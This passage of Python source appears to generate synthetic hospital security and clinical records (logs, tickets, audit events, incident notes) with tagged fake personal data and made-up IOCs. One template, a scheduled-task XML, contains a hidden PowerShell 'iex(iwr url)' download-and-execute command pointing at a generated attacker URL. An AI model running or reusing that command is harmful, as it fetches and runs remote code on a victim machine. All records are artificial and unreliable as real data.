        d.fill("{t},{x},{srv},{ev},{s},{rcp},{sub},{b}\n", t=c.iso(), x=c.xip(),
               srv=c.H(c.host("srv")), ev=R(c, "RECEIVE", "DELIVER", "SEND"), s=atk,
               rcp=c.email(p), sub=R(c, "Rechnung offen", "Befund bereit", "DocuSign: Lohnabrechnung"),
               b=c.r.randint(2000, 900000))
    return d


def s_postfix(c):
    d = Doc()
    mx = f"mx{c.r.randint(1, 3)}"
    for _ in range(c.r.randint(4, 7)):
        p = c.staff()
        qid = "".join(c.r.choice("0123456789ABCDEF") for _ in range(10))
        d.fill("{t} {mx} postfix/smtpd[{pid}]: {q}: client={dom}[{x}], sasl_method=LOGIN, "
               "sasl_username={u}\n", t=c.ts("%b %d %H:%M:%S"), mx=mx, pid=c.r.randint(1000, 60000),
               q=qid, dom=c.xdom(), x=c.xip(), u=c.email(p))
        d.fill("{t} {mx} postfix/smtp[{pid}]: {q}: to=<{to}>, relay={rel}[{x}]:25, status=sent "
               "(250 OK)\n", t=c.ts("%b %d %H:%M:%S"), mx=mx, pid=c.r.randint(1000, 60000), q=qid,
               to=c.xmail(), rel=c.xdom(), x=c.xip())
    d.fill("Kontoen til {n} var kompromittert; passord byttet.\n", n=c.nm(c.staff()))
    return d


def s_cyberark(c):
    d = Doc()
    for _ in range(c.r.randint(5, 9)):
        p = c.staff()
        d.fill("{t} | {u} | {act} | Safe: {safe} | Object: {obj} | Station: {ip} | Reason: {why}\n",
               t=c.ts("%d/%m/%Y %H:%M:%S"), u=c.user(p),
               act=R(c, "Retrieve password", "CPM Change Password", "Connect (PSM-RDP)"),
               safe=R(c, "Win-Domain-Admins", "EPR-Service", "Network-Devices"),
               obj=[I(c.nb, "HOSTNAME"), "-", I(f"adm-{p.user}", "USERNAME")],
               ip=c.pip(), why=R(c, "INC break-fix", "emergency access", "-"))
    d.fill("Service desk: checkout by {n} at 03:10 was not hers; source later tied to {m} "
           "operator infrastructure ({x}).\n", n=c.nm(c.staff()), m=c.xmal(), x=c.xip())
    return d


def s_schtasks_xml(c):
    p = c.staff()
    d = Doc()
    d.fill('<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" '
           'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n  <RegistrationInfo>\n'
           '    <Date>{t}</Date>\n    <Author>{nb}\\{u}</Author>\n    <URI>\\{tn}</URI>\n'
           '  </RegistrationInfo>\n  <Principals>\n    <Principal id="Author">\n'
           '      <UserId>{sid}</UserId>\n      <LogonType>InteractiveToken</LogonType>\n'
           '    </Principal>\n  </Principals>\n  <Actions Context="Author">\n    <Exec>\n'
           '      <Command>powershell.exe</Command>\n      <Arguments>-w hidden -c iex(iwr {url})'
           '</Arguments>\n    </Exec>\n  </Actions>\n</Task>\n'
           '<!-- exported from {h} by {n}; task hash {md} ({mi}) -->\n',
           t=N(c.tick().strftime("%Y-%m-%dT%H:%M:%S"), "LOGTIME"), nb=I(c.nb, "HOSTNAME"),
           u=c.user(p), tn=R(c, "OneDriveUpdate", "GoogleUpdaterCore", "MicrosoftEdgeSvc"),
           sid=I(f"S-1-5-21-{c.r.randint(10 ** 9, 4 * 10 ** 9)}-{c.r.randint(10 ** 9, 4 * 10 ** 9)}-"
                 f"{c.r.randint(10 ** 9, 4 * 10 ** 9)}-{c.r.randint(1100, 9999)}", "ACCOUNT"),
           url=XE(c.xurl()), h=c.H(c.host()), n=XE(c.nm(c.staff())), md=c.xmd5(), mi=c.xmitre())
    return d


def s_openvpn_status(c):
    d = Doc()
    d.t("OpenVPN CLIENT LIST\n")
    d.fill("Updated,{t}\nCommon Name,Real Address,Bytes Received,Bytes Sent,Connected Since\n",
           t=c.ts("%a %b %d %H:%M:%S %Y"))
    rows = []
    for _ in range(c.r.randint(4, 7)):
        p = c.staff()
        real = c.xip()
        rows.append((p, c.pip()))
        d.fill("{u},{ip}:{pt},{br},{bs},{t}\n", u=c.user(p), ip=real, pt=c.r.randint(1024, 65535),
               br=c.r.randint(10 ** 4, 10 ** 9), bs=c.r.randint(10 ** 4, 10 ** 9),
               t=c.ts("%a %b %d %H:%M:%S %Y"))
    d.t("ROUTING TABLE\nVirtual Address,Common Name\n")
    for p, v in rows:
        d.fill("{v},{u}\n", v=v, u=c.user(p))
    d.fill("Megjegyzés: a(z) {u} fiók Real Address címei nem a munkatárs ({n}) otthoni címei, "
           "hanem VPS-ek.\n", u=c.user(rows[0][0]), n=c.nm(rows[0][0], "last"))
    return d


def s_sharepoint_csv(c):
    d = Doc()
    d.t("Date,Utilisateur,Action,Élément,Partagé avec,Adresse IP\n")
    for _ in range(c.r.randint(4, 8)):
        p = c.staff()
        pt = c.patient()
        ext = c.r.random() < 0.5
        d.fill("{t},{u},{a},/sites/{site}/Documents/{fn}_{dob}.pdf,{w},{ip}\n", t=c.ts("%d.%m.%Y %H:%M"),
               u=c.email(p), a=R(c, "AnonymousLinkCreated", "SharingInvitationCreated", "FileDownloaded"),
               site=R(c, "Cardiologie", "Admissions", "RH"), fn=I(ind.slug(pt.last).capitalize() or "X", "NAME"),
               dob=I(c.dob().strftime("%Y%m%d"), "DATE"), w=c.xmail() if ext else c.email(c.staff()),
               ip=c.xip() if ext else c.pip())
    return d


def s_k8s_audit(c):
    d = Doc()
    p = c.staff()
    for _ in range(c.r.randint(3, 6)):
        d.fill('{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse",'
               '"stage":"ResponseComplete","requestURI":"/api/v1/namespaces/fhir/secrets/{sec}",'
               '"verb":"{v}","user":{"username":"{u}","groups":["system:authenticated"]},'
               '"sourceIPs":["{x}"],"userAgent":"kubectl/v1.29.0","objectRef":{"resource":"secrets",'
               '"namespace":"fhir"},"requestReceivedTimestamp":"{t}","annotations":'
               '{"note":"node {h}"}}\n', sec=R(c, "db-creds", "smart-client", "tls-ingress"),
               v=R(c, "get", "list", "create"), u=J(c.email(p)), x=c.xip(), t=c.iso(),
               h=c.fqdn(c.host("srv")))
    return d


def s_incident_yaml(c):
    p, q = c.staff(), c.staff()
    pt = c.patient()
    d = Doc()
    d.fill("incidente:\n  id: INC-{n}\n  abierto: {t}\n  reportado_por:\n    nombre: {pn}\n"
           "    usuario: {u}\n    anexo: {ext}\n  asignado_a: {qn}\n  equipos:\n    - {h1}\n"
           "    - {h2}\n  paciente_afectado:\n    nombre: \"{ptn}\"\n    rut: {rut}\n"
           "    fecha_nacimiento: {dob}\n    ficha: {m}\n  iocs:\n    ip: {x}\n"
           "    dominio: {dom}\n    sha256: {s}\n    familia: {r}\n    tecnica: {mi}\n",
           n=c.r.randint(10000, 99999), t=c.ts("%Y-%m-%dT%H:%M:%S"), pn=c.nm(p), u=c.user(p),
           ext=I(str(c.r.randint(2000, 7999)), "PHONE"), qn=c.nm(q, "lf"), h1=c.H(c.host()),
           h2=c.H(c.host("srv")), ptn=c.nm(pt), rut=I(f"{c.r.randint(5, 25)}.{c.r.randint(100, 999)}."
                                                     f"{c.r.randint(100, 999)}-{c.r.choice('0123456789K')}", "SSN"),
           dob=I(c.dob().strftime("%Y-%m-%d"), "DATE"), m=c.mrn(), x=c.xip(), dom=c.xdom(),
           s=c.xsha256(), r=c.xransom(), mi=c.xmitre())
    return d


def s_misp(c):
    p = c.staff()
    d = Doc()
    attrs = [("ip-dst", c.xip()), ("domain", c.xdom()), ("sha256", c.xsha256()),
             ("url", c.xurl()), ("md5", c.xmd5()), ("email-src", c.xmail())]
    c.r.shuffle(attrs)
    d.fill('{"Event": {"info": "{r} intrusion at member hospital", "date": "{t}", '
           '"threat_level_id": "1", "Orgc": {"name": "{org}"}, "event_creator_email": "{e}",\n'
           '  "Attribute": [\n', r=J(c.xransom()), t=N(c.t.strftime("%Y-%m-%d"), "LOGTIME"),
           org=J(c.org()), e=J(c.email(p)))
    k = c.r.randint(4, 6)
    for i, (typ, v) in enumerate(attrs[:k]):
        d.fill('    {"type": "{ty}", "category": "Network activity", "to_ids": true, '
               '"value": "{v}", "comment": "{cm}"}{co}\n', ty=typ, v=J(v),
               cm=J(Doc().fill("seen on {h}", h=c.H(c.host()))) if i == 0 else
               (J(Doc().fill("reported by {n}", n=c.nm(p, "init"))) if i == 1 else ""),
               co="," if i < k - 1 else "")
    d.fill('  ],\n  "Tag": [{"name": "misp-galaxy:mitre-attack-pattern=\\"{mi}\\""}, '
           '{"name": "actor:{a}"}]}}\n', mi=c.xmitre(), a=J(c.xactor()))
    return d


def J_doc(v):
    return v


def s_jira_json(c):
    p, q = c.staff(), c.staff()
    d = Doc()
    d.fill('{"key": "SEC-{n}", "fields": {"summary": "Phishing fra {a}", '
           '"reporter": {"displayName": "{pn}", "emailAddress": "{pe}"}, '
           '"assignee": {"displayName": "{qn}", "name": "{qu}"}, "created": "{t}", '
           '"description": "{desc}",\n "comment": {"comments": [{"author": {"displayName": '
           '"{qn2}"}, "body": "{body}"}]}}}\n',
           n=c.r.randint(100, 9999), a=J(c.xmail()), pn=J(c.nm(p)), pe=J(c.email(p)),
           qn=J(c.nm(q)), qu=J(c.user(q)), t=c.iso(),
           desc=Doc().fill("Hej, {f} her. Jeg klikkede på linket {url} fra min pc {h}. Ring på {ph}.",
                      f=c.nm(p, "first"), url=c.xurl(defang=True), h=c.H(c.host()),
                      ph=c.phone()).json_escaped(),
           qn2=J(c.nm(q)),
           body=Doc().fill("Blokeret {x} og {d}. Payload hash {s}. Matcher {m}.", x=c.xip(),
                           d=c.xdom(), s=c.xmd5(), m=c.xmal()).json_escaped())
    return d


def s_bitlocker(c):
    d = Doc()
    d.t("BitLocker recovery key requests (self-service portal export)\n"
        "Requested          | Requester              | Device          | Serial       | Key ID   | Verified by\n")
    for _ in range(c.r.randint(4, 7)):
        p, q = c.staff(), c.staff()
        d.fill("{t} | {n} | {h} | {sn} | {kid} | {v}\n", t=c.ts("%Y-%m-%d %H:%M"),
               n=c.nm(p, "lf"), h=c.H(c.host()), sn=c.serial(), kid=ind.hexstr(c.r, 8).upper(),
               v=c.user(q) if c.r.random() < 0.7 else Doc().fill("caller-back {ph}", ph=c.xphone()))
    d.t("Two requests were verified by call-back to a number the caller supplied: vishing.\n")
    return d


# ============================================================ clinical and business

def s_medrec(c):
    pt = c.patient()
    b = c.dob()
    d = Doc()
    d.fill("MEDICATION RECONCILIATION — {ln}\nPatient: {n}   DOB: {dob}   MRN: {m}\n"
           "Pharmacy on file: {ph} ({tel})\nPCP: Dr. {pcp}  NPI {npi}\n\n",
           ln=c.nm(pt, "LF"), n=c.nm(pt), dob=c.D(b), m=c.mrn(),
           ph=R(c, "Walgreens #", "CVS #", "Rite Aid #") + str(c.r.randint(1000, 19999)),
           tel=c.phone(), pcp=c.nm(c.staff(), "last"), npi=c.npi())
    for _ in range(c.r.randint(3, 6)):
        d.fill("- {drug} {dose} {freq}  [{src}]\n", drug=R(c, "metoprolol", "apixaban", "insulin glargine", "sertraline", "furosemide", "levothyroxine"),
               dose=R(c, "25 mg", "5 mg", "20 units", "50 mcg"), freq=R(c, "PO BID", "daily", "qHS"),
               src=R(c, "pt report", "Surescripts", "bottle"))
    d.fill("\nReconciled by {rn}, RN on {t}. Note: list printed during downtime caused by "
           "{r}; do not trust Surescripts pull until IT confirms.\n", rn=c.nm(c.staff(), "init"),
           t=c.ts("%m/%d/%Y %H:%M"), r=c.xransom())
    return d


def s_wound_care(c):
    pt = c.patient()
    b = c.dob(old=c.r.random() < 0.5)
    a = c.addr()
    d = Doc()
    d.fill("District nursing — wound care visit\nClient: {n} (NHI {nhi}), {age} yrs, DOB {dob}\n"
           "Address: {ad}, {ci} {zp}\nNext of kin: {nok} {nokph}\n\n"
           "Stage 3 sacral pressure injury, 4.1 x 3.0 cm, granulating. Photos taken on the "
           "shared iPad (asset {sn}) and uploaded to the wound app.\n"
           "Visit {vt}. Nurse: {rn}.\n", n=c.nm(pt), nhi=I(f"{''.join(c.r.choice('ABCDEFGHJKLMNPRSTUVWXYZ') for _ in range(3))}{c.r.randint(1000, 9999)}", "MRN"),
           age=c.AGE(b), dob=c.D(b), ad=a[0], ci=a[1], zp=a[2], nok=c.nm(c.patient()),
           nokph=c.phone(), sn=c.serial(), vt=I(c.visit().strftime("%d/%m/%Y %H:%M"), "DATETIME"),
           rn=c.nm(c.staff()))
    d.fill("IT note: the wound app's sync failed because the iPad was enrolled to {x} after a "
           "fake MDM profile from {url}.\n", x=c.xdom(), url=c.xurl(defang=True))
    return d


def s_physio(c):
    pt = c.patient()
    b = c.dob()
    d = Doc()
    d.fill("Physiotherapy progress note\nName: {ln}   Hosp no: {m}   DOB: {dob}\n"
           "Referred by: {ref}\nSession {k} of 8, {vt}\n\nS: {f} reports less pain on stairs.\n"
           "O: ROM knee 5-105, TUG 14 s.\nA/P: continue. Home programme e-mailed to {e}.\n"
           "Signed {pt_} (HCPC {lic})\n", ln=c.nm(pt, "LF"), m=c.mrn(), dob=c.D(b),
           ref=[N("Dr", "TITLE"), " ", c.nm(c.staff(), "last")], k=c.r.randint(2, 8),
           vt=I(c.visit().strftime("%d/%m/%Y %H:%M"), "DATETIME"), f=c.nm(pt, "first"),
           e=I(f"{ind.slug(pt.first)}{c.r.randint(1, 99)}@{c.r.choice(['btinternet.com', 'gmail.com', 'outlook.com'])}", "EMAIL"),
           pt_=c.nm(c.staff()), lic=I(f"PH{c.r.randint(10000, 199999)}", "LICENSE"))
    d.fill("\n[Forwarded to IT: the e-mail bounced back from {x}, the sender address was "
           "spoofed as ours.]\n", x=c.xmail(free=False))
    return d


def s_preop(c):
    pt = c.patient()
    b = c.dob(old=c.r.random() < 0.4)
    d = Doc()
    d.fill("PRE-ANESTHESIA EVALUATION\n{n}, {age} y, MRN {m}, DOB {dob}\nProcedure: {proc} "
           "scheduled {when}\nASA {asa}. Airway Mallampati II. Allergies: PCN.\n"
           "Consent witnessed by {w}. Anesthesiologist: ", n=c.nm(pt), age=c.AGE(b), m=c.mrn(),
           dob=c.D(b), proc=R(c, "TKA right", "lap chole", "TURP", "hip hemiarthroplasty"),
           when=I(c.visit(3).strftime("%m/%d/%Y %H:%M"), "DATETIME"),
           asa=R(c, "II", "III"), w=c.nm(c.staff()))
    d.fill("{t} {an}\n", t=N("Dr.", "TITLE"), an=c.nm(c.staff()))
    d.fill("Addendum: case delayed; anesthesia workstation {h} reimaged after {m2} alert "
           "({s}).\n", h=c.H(c.host()), m2=c.xmal(), s=c.xsha1())
    return d


def s_critical_callback(c):
    d = Doc()
    d.t("CRITICAL VALUE CALL LOG — Core Lab\nTime | Patient | MRN | Test | Value | Called to | Read-back\n")
    for _ in range(c.r.randint(4, 8)):
        pt = c.patient()
        d.fill("{t} | {n} | {m} | {te} | {v} | {to} x{ext} | {rb}\n", t=c.ts("%m/%d %H:%M"),
               n=c.nm(pt, "LF"), m=c.mrn(), te=R(c, "K", "Trop I", "Lactate", "Hgb", "INR"),
               v=R(c, "6.8", "2.1", "5.4", "6.1", "7.9"), to=c.nm(c.staff(), "init"),
               ext=I(str(c.r.randint(2000, 7999)), "PHONE"), rb=c.user(c.staff()))
    d.fill("Calls after 02:00 were made by phone because the LIS result queue was frozen by "
           "{r} (host {x}).\n", r=c.xransom(), x=c.xip())
    return d


def s_immunization_xml(c):
    pt = c.patient()
    b = c.dob()
    a = c.addr()
    d = Doc()
    d.fill('<?xml version="1.0"?>\n<ImmunizationSubmission facility="{org}">\n  <Patient>\n'
           '    <Name family="{ln}" given="{fn}"/>\n    <BirthDate>{dob}</BirthDate>\n'
           '    <Address street="{st}" city="{ci}" zip="{zp}"/>\n    <Phone>{ph}</Phone>\n'
           '    <Guardian>{g}</Guardian>\n    <RegistryId>{rid}</RegistryId>\n  </Patient>\n'
           '  <Vaccination cvx="{cvx}" lot="{lot}" date="{vd}" administeredBy="{nu}"/>\n'
           '</ImmunizationSubmission>\n<!-- rejected: endpoint {url} is not the state registry; '
           'DNS for the registry was poisoned ({x}) -->\n',
           org=XE(c.org()), ln=XE(c.nm(pt, "last")), fn=XE(c.nm(pt, "first")),
           dob=I(b.strftime("%Y-%m-%d"), "DATE"), st=XE(a[0]), ci=XE(a[1]), zp=XE(a[2]),
           ph=c.phone(), g=XE(c.nm(c.patient())), rid=c.mrn(), cvx=R(c, "08", "20", "115", "208"),
           lot=f"{c.r.choice('ABUX')}{c.r.randint(1000, 9999)}",
           vd=I(c.visit().strftime("%Y-%m-%d"), "DATE"), nu=XE(c.user(c.staff())),
           url=XE(c.xurl()), x=c.xip())
    return d


def s_decedent(c):
    pt = c.patient()
    b = c.dob(old=True)
    dd = c.visit()
    d = Doc()
    d.fill("DECEDENT RELEASE FORM\nDecedent: {n}   Age: {age}   DOB: {dob}\n"
           "Date/time of death: {dod}\nMRN {m}   SSN {ssn}\nReleased to: {fh} Funeral Home, "
           "driver {drv}, vehicle plate {pl}\nNext of kin: {nok} ({rel}), {ph}\n"
           "Morgue attendant: {att}\n", n=c.nm(pt, "LF"), age=c.AGE(b), dob=c.D(b),
           dod=I(dd.strftime("%m/%d/%Y %H:%M"), "DATETIME"), m=c.mrn(),
           ssn=I(f"{c.r.randint(100, 665)}-{c.r.randint(10, 99)}-{c.r.randint(1000, 9999)}", "SSN"),
           fh=R(c, "Greenlawn", "Riverside", "Oakwood"), drv=c.nm(c.patient()),
           pl=I(f"{c.r.choice('ABCDEFGH')}{c.r.choice('KLMNPR')}{c.r.choice('STUVWX')}-{c.r.randint(1000, 9999)}", "VEHICLE"),
           nok=c.nm(c.patient()), rel=R(c, "daughter", "son", "niece"), ph=c.phone(), att=c.nm(c.staff(), "init"))
    d.fill("\nScanned copy found in a ZIP on {dom} after the {r} leak; hash {s}.\n", dom=c.xdom(),
           r=c.xransom(), s=c.xsha256())
    return d


def s_billing_statement(c):
    pt = c.patient()
    a = c.addr()
    d = Doc()
    d.fill("{org}\nPATIENT STATEMENT\n\n{n}\n{ad}\n{ci}, {st} {zp}\n\nAccount: {acct}   "
           "Guarantor: {g}\nService date: {sd}   Insurance: member {pl}\n\nBalance due: "
           "${amt}\n\nPay online only at our portal. We never ask you to pay by gift card or "
           "to {w}.\n", org=c.org(), n=c.nm(pt), ad=a[0], ci=a[1],
           st=FK["en_US"].state_abbr(), zp=a[2], acct=c.acct(), g=c.nm(c.patient()),
           sd=I(c.visit(60).strftime("%m/%d/%Y"), "DATE"), pl=c.plan(),
           amt=f"{c.r.randint(20, 3000)}.{c.r.randint(0, 99):02d}", w=c.xwallet())
    d.fill("(Fraud notice added after patients received fake statements from {e} asking for "
           "payment to {b}.)\n", e=c.xmail(), b=c.xbank())
    return d


def s_refund_request(c):
    pt = c.patient()
    a = c.addr()
    d = Doc()
    d.fill("Patient refund request #{n}\nPatient: {pn}   Acct {acct}\nMailing address: {ad}, {ci} "
           "{zp}\nRequested by: {rq}, Patient Financial Services, ext {ext}\nAmount: ${amt}\n"
           "Payee changed by phone on {t} — caller said she was the patient's daughter, "
           "called from {xp}, new account {xb}.\nApproved by {ap}.\n",
           n=c.r.randint(10000, 99999), pn=c.nm(pt), acct=c.acct(), ad=a[0], ci=a[1], zp=a[2],
           rq=c.nm(c.staff()), ext=I(str(c.r.randint(2000, 7999)), "PHONE"),
           amt=f"{c.r.randint(200, 9000)}.00", t=N(c.tick().strftime("%m/%d/%Y"), "LOGTIME"),
           xp=c.xphone(), xb=c.xbank(), ap=c.nm(c.staff(), "lf"))
    return d


def s_offboarding(c):
    p, m = c.staff(), c.staff()
    d = Doc()
    d.fill("Leaver access revocation — {n} (Employee no. {eid})\nLine manager: {mn}\n"
           "Last day: {ld}\n\n[x] AD account {nb}\\{u} disabled\n[x] NHSmail {e} forwarded to "
           "{me}\n[x] Smartcard {sc} cancelled\n[ ] Laptop {sn} ({h}) returned\n\n"
           "Found: a rule forwarding mail to {x} created from {ip}. Reported to CareCERT.\n",
           n=c.nm(p), eid=I(str(c.r.randint(100000, 999999)), "ACCOUNT"), mn=c.nm(m),
           ld=I(c.visit(5).strftime("%d/%m/%Y"), "DATE"), nb=I(c.nb, "HOSTNAME"), u=c.user(p),
           e=c.email(p), me=c.email(m), sc=I(str(c.r.randint(10 ** 11, 10 ** 12 - 1)), "ACCOUNT"),
           sn=c.serial(), h=c.H(c.host()), x=c.xmail(), ip=c.xip())
    return d


def s_vendor_baa(c):
    p = c.staff()
    d = Doc()
    vend = R(c, "MedTranscribe Pro", "ClearBill RCM", "FaxPath Cloud")
    d.fill("From: privacy@{vd}.example\nTo: {e}\nSubject: Security incident notification under "
           "our BAA\n\nDear {f},\n\nOn {t} {v} detected unauthorized access by the {r} group "
           "({a}) via {cve}. Files for your facility ({org}) included:\n",
           vd=ind.slug(vend), e=c.email(p), f=c.nm(p, "first"),
           t=N(c.t.strftime("%B %d, %Y"), "LOGTIME"), v=vend, r=c.xransom(), a=c.xactor(),
           cve=c.xcve(), org=c.org())
    for _ in range(c.r.randint(2, 4)):
        pt = c.patient()
        b = c.dob(old=c.r.random() < 0.3)
        d.fill("  - {n}, DOB {dob}, MRN {m}, dictation of {vd}\n", n=c.nm(pt, "lf"), dob=c.D(b),
               m=c.mrn(), vd=I(c.visit(30).strftime("%m/%d/%Y"), "DATE"))
    d.fill("Exfiltration went to {x}. We will send the forensic report.\n\nRegards,\n{vn}\n",
           x=c.xip(), vn=c.nm(c.person("en_US")))
    return d


def s_interpreter_log(c):
    d = Doc()
    d.t("Interpreter requests (language line)\nWhen | Patient | Lang | Room | Requested by | Interpreter ID | Phone used\n")
    for _ in range(c.r.randint(4, 7)):
        loc = c.r.choice(["es_CO", "uk_UA", "fa_IR", "pt_PT", "hu_HU", "ka_GE"])
        pt = c.patient(loc)
        d.fill("{t} | {n} | {lang} | {rm} | {rq} | {iid} | {ph}\n",
               t=I(c.visit(3).strftime("%m/%d/%Y %H:%M"), "DATETIME"), n=c.nm(pt),
               lang={"es_CO": "Spanish", "uk_UA": "Ukrainian", "fa_IR": "Farsi", "pt_PT": "Portuguese",
                     "hu_HU": "Hungarian", "ka_GE": "Georgian"}[loc], rm=f"{c.r.randint(2, 9)}{c.r.randint(10, 60)}",
               rq=c.nm(c.staff(), "init"), iid=I(str(c.r.randint(100000, 999999)), "ACCOUNT"), ph=c.phone(loc))
    d.fill("Vendor warning: callers posing as the language line asked nurses to install {m} "
           "and read out code {rid}.\n", m=c.xmal(), rid=c.xremote())
    return d


def s_cs_count(c):
    d = Doc()
    d.t("CONTROLLED SUBSTANCE COUNT — discrepancy report\n")
    for _ in range(c.r.randint(3, 5)):
        d.fill("{t}  {drug}  expected {e} counted {k}  RN {a} / RN {b}  cabinet {h}\n",
               t=c.ts("%m/%d %H:%M"), drug=R(c, "hydromorphone 2 mg", "fentanyl 100 mcg", "lorazepam 2 mg"),
               e=(e := c.r.randint(6, 20)), k=e - c.r.randint(0, 2), a=c.nm(c.staff(), "lf"),
               b=c.user(c.staff()), h=c.H(c.host()))
    p = c.staff()
    d.fill("\nOverride pulls under {n}'s badge for patient {pt} (MRN {m}) while {f} was off shift; "
           "Pyxis console {h} had {m2} installed ({s}).\n", n=c.nm(p), pt=c.nm(c.patient()),
           m=c.mrn(), f=c.nm(p, "first"), h=c.H(c.host()), m2=c.xmal(), s=c.xsha256())
    return d


def s_visitor_kiosk(c):
    d = Doc()
    d.t("visit_time,visitor,visiting_patient,ward,id_checked,photo_file,vehicle_rego,host_staff\n")
    for _ in range(c.r.randint(4, 8)):
        v, pt = c.patient(), c.patient()
        d.fill("{t},{v},{pt},{w},{idc},{ph},{rego},{hs}\n", t=I(c.visit(2).strftime("%d/%m/%Y %H:%M"), "DATETIME"),
               v=c.nm(v), pt=c.nm(pt), w=R(c, "Ward 7", "ICU", "Maternity"),
               idc=I(f"{c.r.choice('ABCDEFGHJKLMN')}{c.r.choice('ABCDEFGHJKLMN')}{c.r.randint(100000, 999999)}", "LICENSE"),
               ph=I(f"kiosk/{c.r.randint(10 ** 6, 10 ** 7)}_{ind.slug(v.last) or 'v'}.jpg", "PHOTO"),
               rego=I(f"{''.join(c.r.choice('ABCDEFGHJKLMNPRSTUVWXYZ') for _ in range(3))}{c.r.randint(100, 999)}", "VEHICLE"),
               hs=c.user(c.staff()))
    d.fill("Kiosk {h} posted snapshots to {url} after a bad update; vendor case open.\n",
           h=c.H(c.host()), url=c.xurl())
    return d


def s_disposal_cert(c):
    d = Doc()
    d.fill("CERTIFICATE OF DATA DESTRUCTION\nClient: {org}\nCollected from: {ad}, {ci} {zp}\n"
           "Handed over by: {n} (Emp {eid}), mobile {ph}\n\nSerial | Asset tag | Last user | Method\n",
           org=c.org(), ad=(a := c.addr())[0], ci=a[1], zp=a[2], n=c.nm(c.staff()),
           eid=I(str(c.r.randint(10000, 99999)), "ACCOUNT"), ph=c.phone())
    for _ in range(c.r.randint(3, 6)):
        d.fill("{sn} | {h} | {u} | {m}\n", sn=c.serial(), h=c.H(c.host()), u=c.user(c.staff()),
               m=R(c, "Shred", "Degauss", "NIST 800-88 purge"))
    d.fill("Exception: one drive missing; later listed for sale on {dom} by {a}.\n", dom=c.xdom(),
           a=c.xmail())
    return d


def s_travel_nurse(c):
    p = c.person("en_US")
    d = Doc()
    d.fill("From: {rec}\nTo: {dom}\nSubject: Start packet — {n}, RN\n\n"
           "Hi team, {f} starts on 4 West next week. License RN {lic} ({st}), "
           "NPI {npi}, DOB {dob}, SSN last four {l4}. Personal phone {ph}. Temp badge please.\n"
           "Thanks, {rc}\n\n-- IT note: this packet also came from {x} with a \"updated W-9\" "
           "link {url}; only the agency copy is genuine.\n",
           rec=I(f"{ind.slug(c.person('en_US').first)}@{c.r.choice(['aya', 'amn', 'cross'])}staffing.example", "EMAIL"),
           dom=I("credentialing@" + c.domain, "EMAIL"), n=c.nm(p), f=c.nm(p, "first"),
           lic=I(f"{c.r.randint(100000, 9999999)}", "LICENSE"), st=FK["en_US"].state_abbr(),
           npi=c.npi(), dob=c.D(c.dob()), l4=I(f"{c.r.randint(1000, 9999)}", "SSN"), ph=c.phone(),
           rc=c.nm(c.person("en_US")), x=c.xmail(), url=c.xurl(defang=True))
    return d


# ============================================================ languages

NOTE = {
    "da_DK": dict(h="Hændelsesnotat", rep="Anmeldt af", pt="Patient", dob="født", id="CPR-nr.",
                  t1="{pt} ({dob}, {id} {nid}), bopæl {ad}, {zp} {ci}, fik en sms om en falsk "
                     "journal-link.", t2="Linket pegede på {url}; serveren {x} hoster {m}. Hash {s}."),
    "fi_FI": dict(h="Tietoturvapoikkeama", rep="Ilmoittaja", pt="Potilas", dob="syntynyt",
                  id="hetu", t1="Potilaan {pt} ({dob}, {id} {nid}, {ad}, {zp} {ci}) tiedot "
                  "löytyivät vuotosivustolta.", t2="Hyökkääjä {m} käytti palvelinta {x} ja "
                  "verkkotunnusta {url}. SHA256 {s}."),
    "hu_HU": dict(h="Incidens jegyzőkönyv", rep="Bejelentő", pt="Beteg", dob="szül.",
                  id="TAJ", t1="{pt} ({dob}, {id} {nid}), lakcím: {zp} {ci}, {ad}; leletét "
                  "hamis e-mailben küldték tovább.", t2="Feladó szerver: {x}, link: {url}, "
                  "kártevő: {m}, hash {s}."),
    "uk_UA": dict(h="Звіт про інцидент", rep="Повідомив", pt="Пацієнт", dob="дата народження",
                  id="РНОКПП", t1="{pt} ({dob}, {id} {nid}), адреса: {ad}, {ci}, {zp} — "
                  "дані у викраденому архіві.", t2="Сервер зловмисників {x}, посилання {url}, "
                  "шкідливе ПЗ {m}, SHA256 {s}."),
    "sk_SK": dict(h="Záznam o incidente", rep="Nahlásil(a)", pt="Pacient", dob="nar.",
                  id="RČ", t1="{pt} ({dob}, {id} {nid}), bydlisko {ad}, {zp} {ci}, dostal "
                  "podvodnú SMS.", t2="Odkaz {url} smeroval na {x}; vzorka {m}, hash {s}."),
    "no_NO": dict(h="Avvikssak", rep="Meldt av", pt="Pasient", dob="f.", id="fnr.",
                  t1="{pt} ({dob}, {id} {nid}), {ad}, {zp} {ci}, ringte om en falsk "
                  "Helsenorge-melding.", t2="Lenken {url} gikk til {x}; {m}, hash {s}."),
    "fa_IR": dict(h="گزارش رخداد امنیتی", rep="گزارش‌دهنده", pt="بیمار", dob="تاریخ تولد",
                  id="کد ملی", t1="پرونده {pt} ({dob}، {id} {nid}، نشانی {ad}، {ci}، {zp}) "
                  "در فایل نشت‌شده بود.", t2="سرور مهاجم {x}، لینک {url}، بدافزار {m}، "
                  "هش {s}."),
    "hr_HR": dict(h="Bilješka o incidentu", rep="Prijavio/la", pt="Pacijent", dob="rođ.",
                  id="OIB", t1="{pt} ({dob}, {id} {nid}), adresa {ad}, {zp} {ci}, primio "
                  "lažnu poruku o nalazu.", t2="Poveznica {url} vodi na {x}; {m}, hash {s}."),
}


def nat_id(c, loc, b):
    r = c.r
    if loc == "da_DK":
        return I(f"{b.strftime('%d%m%y')}-{r.randint(1000, 9999)}", "SSN")
    if loc == "fi_FI":
        return I(f"{b.strftime('%d%m%y')}{'-' if b.year >= 1900 and b.year < 2000 else 'A'}"
                 f"{r.randint(100, 899)}{r.choice('0123456789ABCDEFHJKLMNPRSTUVWXY')}", "SSN")
    if loc == "hu_HU":
        return I(f"{r.randint(100, 999)} {r.randint(100, 999)} {r.randint(100, 999)}", "HEALTH_PLAN")
    if loc == "sk_SK":
        return I(f"{b.strftime('%y%m%d')}/{r.randint(1000, 9999)}", "SSN")
    if loc == "no_NO":
        return I(f"{b.strftime('%d%m%y')} {r.randint(10000, 99999)}", "SSN")
    return I(str(r.randint(10 ** 9, 10 ** 10 - 1)) + ("" if loc != "hr_HR" else str(r.randint(0, 9))), "SSN")


def make_note(loc):
    def fn(c):
        L = NOTE[loc]
        p = c.staff()
        pt = c.patient()
        b = c.dob(old=c.r.random() < 0.2)
        a = c.addr()
        d = Doc()
